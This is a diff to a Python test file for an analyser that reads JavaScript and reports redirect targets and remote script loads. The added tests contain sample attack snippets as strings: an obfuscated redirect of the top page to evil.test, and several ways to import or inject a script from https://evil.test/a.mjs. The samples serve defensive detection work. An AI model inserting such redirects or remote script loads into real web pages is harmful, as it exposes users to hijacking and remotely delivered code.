@@ -30,6 +30,7 @@ GOES = [
     "const l = document.location; l.replace('http://evil.test/a')",
     'window["location"]["href"] = "http://evil.test/a"',
     "document['loca\\x74ion']['replace']('http://evil.test/a')",
+    "top['loca' + 'tion'] = 'http://evil.test/a'",
     "window.navigate('http://evil.test/a')",
     "window.open('http://evil.test/a', '_self')",
     "location.href='\\x68ttp://evil.test/a'",
@@ -191,3 +192,21 @@ def test_an_address_that_stands_beside_other_code_is_none_of_its_targets(source:
 def test_a_frame_that_a_script_spreads_over_the_page_is_read_as_markup() -> None:
     source = "var f = document.createElement('iframe'); f.src = 'http://evil.test/'; f.style = 'position:fixed;inset:0'"
     assert read_script(source).markup == ['<iframe src="http://evil.test/"></iframe>']
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import 'https://evil.test/a.mjs'",
+        "import { pay } from 'https://evil.test/a.mjs'",
+        "import('https://evil.test/a.mjs')",
+        "var s = document.createElement('script'); s.src = 'https://evil.test/a.mjs'",
+    ],
+)
+def test_a_script_that_fetches_another_one_names_it(source: str) -> None:
+    assert read_script(source).loads == ["https://evil.test/a.mjs"]
+
+
+def test_a_picture_is_no_script() -> None:
+    source = "var i = document.createElement('img'); i.src = 'https://stats.test/p'; f('script')"
+    assert read_script(source).loads == []
